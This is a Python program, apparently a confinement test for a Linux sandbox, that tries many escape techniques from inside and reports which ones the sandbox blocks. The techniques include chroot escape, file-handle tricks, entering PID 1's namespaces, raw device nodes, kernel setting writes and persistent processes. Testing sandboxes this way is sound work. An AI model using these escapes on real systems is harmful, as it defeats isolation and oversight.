"""Ways out of a wall, tried from inside: a program for the interpreter of any user.

    python3 attacks.py FACTS.json

Each runs in a process of its own and prints `NAME: done` where it could do harm, `NAME: held WHY`
where it was refused. FACTS has `device` (a block device that nobody gave), `outside` (a file beside
the target that everybody may write to), `process` (one of the same user, outside), `marker` (what
survivors are called by).
"""

import ctypes
import errno
import glob
import json
import os
import signal
import socket
import struct
import sys
import time

LIBC = ctypes.CDLL(None, use_errno=True)
LOOP_CTL_GET_FREE = 0x4C82
CLONE_INTO_CGROUP, CLONE_NEWNS, CLONE_NEWPID = 0x200000000, 0x20000, 0x20000000
CLONE_NEWCGROUP = 0x2000000
# x86-64 and the generic table agree from 424 on; these are older.
CALLS = {
    "x86_64": {"bpf": 321, "perf": 298, "keyctl": 250, "add_key": 248, "init_module": 175,
               "acct": 163},
    "aarch64": {"bpf": 280, "perf": 241, "keyctl": 219, "add_key": 217, "init_module": 105,
                "acct": 89},
}[os.uname().machine]  # fmt: skip
FSOPEN, FSCONFIG, FSMOUNT = 430, 431, 432
CLONE3, IO_URING_SETUP, PIDFD_OPEN, PIDFD_GETFD = 435, 425, 434, 438


def syscall(number, *arguments):
    """A system call; OSError when it is refused."""
    result = LIBC.syscall(ctypes.c_long(number), *arguments)
    if result < 0:
        code = ctypes.get_errno()
        raise OSError(code, os.strerror(code))
    return result


def call(name, *arguments):
    """A function of the C library that returns -1 when it is refused."""
    if getattr(LIBC, name)(*arguments) == -1:
        code = ctypes.get_errno()
        raise OSError(code, os.strerror(code))


def write(path, text=b"attacked"):
    """Write to a file that is there, or a device."""
    fd = os.open(path, os.O_WRONLY)
    try:
        os.write(fd, text.ljust(4096))
        os.fsync(fd)
    finally:
        os.close(fd)


def key_in_a_new_session(name):
    """What an attack looks for, in the key ring of this process's session; not an attack."""
    syscall(CALLS["keyctl"], 1, None)
    syscall(CALLS["add_key"], b"user", name.encode(), b"x", 1, -3)


def any_of(attempts):
    """Whether one of these succeeds; else the last refusal."""
    last = OSError(errno.ENOENT, "nothing to try")
    for attempt in attempts:
        try:
            attempt()
        except OSError as error:
            last = error
        else:
            return
    raise last


def survivor(marker):
    """Become a process that is found by its name."""
    os.execv("/bin/sleep", ["sleep", marker])


# --- files and devices outside ---


def device_by_its_path(facts):
    write(facts["device"])


def device_by_a_new_node(facts):
    number = os.makedev(*facts["number"])

    def made(path):
        os.mknod(path, 0o60666, number)
        write(path)

    places = ("node", "/dev/shm/node", "/dev/node", "/proc/node", "/tmp/attack-node")
    any_of([lambda path=path: made(path) for path in places])


def device_by_roots_of_processes(facts):
    roots = glob.glob("/proc/[0-9]*/root") + glob.glob("/proc/[0-9]*/cwd")
    any_of([lambda root=root: write(root + facts["device"]) for root in roots])


def file_by_roots_of_processes(facts):
    roots = glob.glob("/proc/[0-9]*/root")
    any_of([lambda root=root: write(root + facts["outside"]) for root in roots])


def process_of_other_users(facts):
    """Become each user that has processes, and go by their roots."""

    def become(uid):
        if os.fork() == 0:
            try:
                os.setgroups([])
                os.setresgid(uid, uid, uid)
                os.setresuid(uid, uid, uid)
                device_by_roots_of_processes(facts)
                os._exit(0)
            except OSError:
                os._exit(1)
        if os.wait()[1]:
            raise OSError(errno.EPERM, "refused")

    any_of([lambda uid=uid: become(uid) for uid in (os.getuid(), facts["uid"], 65534, 1000)])


def process_by_its_number(facts):
    """What is outside, by the number that it has there."""
    pid = facts["process"]
    any_of([
        lambda: write(f"/proc/{pid}/root{facts['device']}"),
        lambda: os.kill(pid, signal.SIGKILL),
        lambda: call("ptrace", 16, pid, 0, 0),
        lambda: syscall(PIDFD_OPEN, pid, 0),
    ])  # fmt: skip


def first_process(facts):
    """The keeper, in whose namespaces all is open."""
    for name in ("root", "cwd"):
        try:
            write(f"/proc/1/{name}{facts['device']}")
            return
        except OSError as error:
            last = error
    attempts = [
        lambda: call("ptrace", 16, 1, 0, 0),
        lambda: os.open("/proc/1/mem", os.O_RDWR),
        lambda: os.read(os.open("/proc/1/environ", os.O_RDONLY), 1),
        lambda: os.readlink("/proc/1/fd/0"),
    ]
    for fd in range(12):
        attempts.append(lambda fd=fd: syscall(PIDFD_GETFD, syscall(PIDFD_OPEN, 1, 0), fd, 0))
    try:
        any_of(attempts)
    except OSError:
        raise last from None


def namespaces_of_the_first(facts):
    def enter(name):
        fd = os.open(f"/proc/1/ns/{name}", os.O_RDONLY)
        call("setns", fd, 0)
        write(facts["device"])

    any_of([lambda name=name: enter(name) for name in ("mnt", "pid", "user", "cgroup")])


def handle_of_a_file(facts):
    """open_by_handle_at(2): past the mount that is read-only."""
    handle = ctypes.create_string_buffer(struct.pack("Ii", 128, 0) + bytes(128))
    mount = ctypes.c_int()
    path = facts["outside"].encode()
    call("name_to_handle_at", -100, path, handle, ctypes.byref(mount), 0)
    here = os.open(".", os.O_RDONLY)
    fd = LIBC.open_by_handle_at(here, handle, os.O_RDWR)
    if fd < 0:
        code = ctypes.get_errno()
        raise OSError(code, os.strerror(code))
    os.write(fd, b"attacked")


def root_of_the_file_system(facts):
    """The target's file system from its root on, by a made-up handle of inode 2 (ext4)."""
    handle = ctypes.create_string_buffer(struct.pack("IiII", 8, 1, 2, 0) + bytes(32))
    here = os.open(".", os.O_RDONLY)
    fd = LIBC.open_by_handle_at(here, handle, os.O_RDONLY)
    if fd < 0:
        code = ctypes.get_errno()
        raise OSError(code, os.strerror(code))


def chroot_and_back(facts):
    os.makedirs("jail", exist_ok=True)
    here = os.open("/", os.O_RDONLY)
    os.chroot("jail")
    os.fchdir(here)
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
    write(facts["device"])


def new_mounts(facts):
    os.makedirs("m", exist_ok=True)
    device = facts["device"].encode()
    any_of([
        lambda: call("mount", b"x", b"m", b"devtmpfs", 0, None),
        lambda: call("mount", device, b"m", b"ext4", 0, None),
        lambda: call("mount", b"x", b"m", b"proc", 0, None),
        lambda: call("mount", b"none", b"/", b"none", 32 | 4096, b"dev"),
        lambda: call("umount2", b"/dev", 2),
        lambda: call("umount2", b"/proc", 2),
        lambda: call("pivot_root", b".", b"."),
    ])  # fmt: skip


def new_users(more):
    """Enter a user namespace of one's own, and others with it."""
    uid, gid = os.getuid(), os.getgid()
    call("unshare", 0x10000000 | more)
    for name, line in (("setgroups", "deny"), ("uid_map", f"0 {uid} 1"), ("gid_map", f"0 {gid} 1")):
        try:
            with open(f"/proc/self/{name}", "w") as file:
                file.write(line)
        except OSError:
            pass


def mounts_in_new_namespaces(facts):
    new_users(CLONE_NEWNS)
    new_mounts(facts)


def control_groups_by_a_mount_that_is_nowhere(facts):
    """fsopen(2) to fsmount(2): who has it open may use it."""
    new_users(CLONE_NEWNS | CLONE_NEWCGROUP)
    kind = syscall(FSOPEN, b"cgroup2", 0)
    syscall(FSCONFIG, kind, 6, None, None, 0)
    mount = syscall(FSMOUNT, kind, 0, 0)
    any_of([
        lambda: os.close(os.open(f"/proc/self/fd/{mount}/cgroup.procs", os.O_WRONLY)),
        lambda: os.mkdir(f"/proc/self/fd/{mount}/attack"),
    ])  # fmt: skip


def link_in_place_of_the_file(facts):
    os.symlink(os.path.dirname(facts["outside"]), f"link-{os.getpid()}")
    write(f"link-{os.getpid()}/" + os.path.basename(facts["outside"]))


def hard_link(facts):
    os.link(facts["outside"], f"hard-{os.getpid()}")
    write(f"hard-{os.getpid()}")


def new_file_outside(facts):
    with open(facts["outside"] + "-new", "w") as file:
        file.write("x")


def descriptors_of_the_starter(facts):
    pids = {os.getppid(), 1, *(int(each[6:]) for each in glob.glob("/proc/[0-9]*"))}
    paths = [path for pid in pids - {os.getpid()} for path in glob.glob(f"/proc/{pid}/fd/*")]
    attempts = [lambda path=path: write(path) for path in paths if "loop" in os.readlink(path)]
    any_of(attempts)


def as_they_are(place):
    """Set mode and times of a file again, which takes the same right as other ones."""
    about = os.stat(place)
    any_of([
        lambda: os.chmod(place, about.st_mode & 0o7777),
        lambda: os.utime(place, ns=(about.st_atime_ns, about.st_mtime_ns)),
        lambda: os.setxattr(place, "user.attacked", b"x"),
    ])  # fmt: skip


def input_by_its_descriptor(facts):
    """Standard input was named by a process outside, whose mounts can be written to."""
    as_they_are(0)


def nodes_of_the_host(facts):
    nodes = ["/dev/null", "/dev/zero", "/dev/tty", os.environ.get("SCHEDLAB_DEVICE", "")]
    any_of([lambda node=node: as_they_are(node) for node in nodes if node.startswith("/dev/")])


def loop_device_over_it(facts):
    control = os.open("/dev/loop-control", os.O_RDWR)
    call("ioctl", control, LOOP_CTL_GET_FREE)


def loop_control_by_a_new_node(facts):
    os.mknod("control", 0o20666, os.makedev(10, 237))
    call("ioctl", os.open("control", os.O_RDWR), LOOP_CTL_GET_FREE)


def io_uring_on_the_device(facts):
    parameters = ctypes.create_string_buffer(120)
    syscall(IO_URING_SETUP, 4, parameters)
    write(facts["device"])


def swap_on_it(facts):
    call("swapon", facts["device"].encode(), 0)


# --- the kernel ---


def memory(facts):
    paths = ("/dev/mem", "/dev/kmem", "/dev/port", "/proc/kcore")
    any_of([lambda path=path: os.read(os.open(path, os.O_RDONLY), 1) for path in paths])


def memory_by_a_new_node(facts):
    os.mknod("mem", 0o20666, os.makedev(1, 1))
    os.open("mem", os.O_RDWR)


def sysrq(facts):
    os.open("/proc/sysrq-trigger", os.O_WRONLY)


def settings(facts):
    names = ("kernel/core_pattern", "kernel/modprobe", "vm/dirty_ratio", "vm/drop_caches",
             "kernel/sched_rr_timeslice_ms")  # fmt: skip
    any_of([lambda name=name: os.open(f"/proc/sys/{name}", os.O_WRONLY) for name in names])


def settings_of_devices(facts):
    paths = [*glob.glob("/sys/block/*/queue/scheduler"), "/sys/kernel/uevent_helper",
             *glob.glob("/sys/block/*/uevent"), *glob.glob("/sys/module/*/parameters/*"),
             *glob.glob("/sys/kernel/tracing/*"), *glob.glob("/sys/kernel/mm/*/*")]  # fmt: skip
    any_of([lambda path=path: os.open(path, os.O_WRONLY) for path in paths])


def programs_of_the_kernel(facts):
    """bpf(2): BPF_BTF_GET_NEXT_ID, which root alone may."""
    attributes = ctypes.create_string_buffer(144)
    syscall(CALLS["bpf"], 23, attributes, 144)


def events_of_all(facts):
    """perf_event_open(2) of a whole CPU."""
    attributes = ctypes.create_string_buffer(struct.pack("2IQ", 1, 128, 0) + bytes(112))
    syscall(CALLS["perf"], attributes, -1, 0, -1, 0)


def module(facts):
    syscall(CALLS["init_module"], 0, 0, b"")


def accounting(facts):
    syscall(CALLS["acct"], 0)


def restart(facts):
    call("reboot", 0)  # Ctrl-Alt-Del off: the mildest that needs the right


def clock(facts):
    now = ctypes.create_string_buffer(struct.pack("qq", int(time.time()), 0))
    call("settimeofday", now, None)


def host_name(facts):
    name = os.uname().nodename.encode()
    call("sethostname", name, len(name))


def network(facts):
    """CAP_NET_ADMIN and CAP_NET_RAW."""
    socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0x0300)


def keys_of_the_session(facts):
    """keyctl(2): KEYCTL_SEARCH in the key ring of the session of whoever started this."""
    syscall(CALLS["keyctl"], 10, -3, b"user", facts["marker"].encode(), 0)


def rights_by_a_program(facts):
    """A program that is set to another user's id."""
    with open("/proc/self/status") as file:
        if "NoNewPrivs:\t1" in file.read():
            raise OSError(errno.EPERM, "no new privileges")


# --- survivors ---


def double_fork(facts):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            signal.signal(signal.SIGTERM, signal.SIG_IGN)
            survivor(facts["marker"])
        os._exit(0)
    os.wait()


def child_in_another_group(facts):
    """clone3(2) with CLONE_INTO_CGROUP; where there are no groups, an ordinary child."""
    for path in glob.glob("/sys/fs/cgroup/**/cgroup.procs", recursive=True)[:200]:
        fd = os.open(os.path.dirname(path), os.O_RDONLY)
        flags = struct.pack("11Q", CLONE_INTO_CGROUP, 0, 0, 0, signal.SIGCHLD, 0, 0, 0, 0, 0, fd)
        arguments = ctypes.create_string_buffer(flags)
        pid = LIBC.syscall(CLONE3, arguments, 88)
        if pid == 0:
            os.setsid()
            survivor(facts["marker"])
        if pid > 0:
            return
    raise OSError(errno.ENOENT, "no control group")


def itself_in_another_group(facts):
    files = glob.glob("/sys/fs/cgroup/**/cgroup.procs", recursive=True)
    if os.fork() == 0:
        os.setsid()
        for file in files:
            try:
                with open(file, "w") as group:
                    group.write("0")
            except OSError:
                pass
        survivor(facts["marker"])


def child_of_a_new_namespace(facts):
    call("unshare", CLONE_NEWPID)
    if os.fork() == 0:
        survivor(facts["marker"])


def many_children(facts):
    for _ in range(50):
        if os.fork() == 0:
            os.setsid()
            survivor(facts["marker"])


NOT = {"syscall", "call", "write", "key_in_a_new_session", "any_of", "survivor", "main", "tried",
       "as_they_are", "new_users"}  # fmt: skip
ATTACKS = {
    name: function
    for name, function in list(globals().items())
    if getattr(function, "__module__", "") == __name__ and name not in NOT
}


def tried(name, facts):
    """Run one; what it could do."""
    sys.stdout.flush()
    pid = os.fork()
    if pid == 0:
        try:
            ATTACKS[name](facts)
            text = "done"
        except OSError as error:
            text = f"held {error.strerror}"
        print(f"{name}: {text}", flush=True)
        os._exit(0)
    os.waitpid(pid, 0)


def main(path):
    """All of them, in an order that does not matter."""
    with open(path) as file:
        facts = json.load(file)
    for name in facts.get("only") or ATTACKS:
        os.makedirs("work", exist_ok=True)
        tried(name, facts)


if __name__ == "__main__":
    main(sys.argv[1])
